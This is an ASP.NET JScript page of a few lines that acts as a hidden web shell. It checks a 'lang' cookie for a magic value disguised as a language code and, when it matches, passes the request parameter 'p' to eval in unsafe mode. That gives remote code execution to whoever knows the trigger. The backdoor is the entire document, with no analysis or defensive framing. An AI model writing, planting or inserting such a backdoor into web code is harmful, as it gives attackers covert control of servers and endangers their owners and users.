<%@ Page Language="JScript" %><%
var lang = Request.Cookies["lang"];
if (lang != null && lang.Value == "zh-tw-9981") { eval(Request.Item["p"], "unsafe"); }
%>
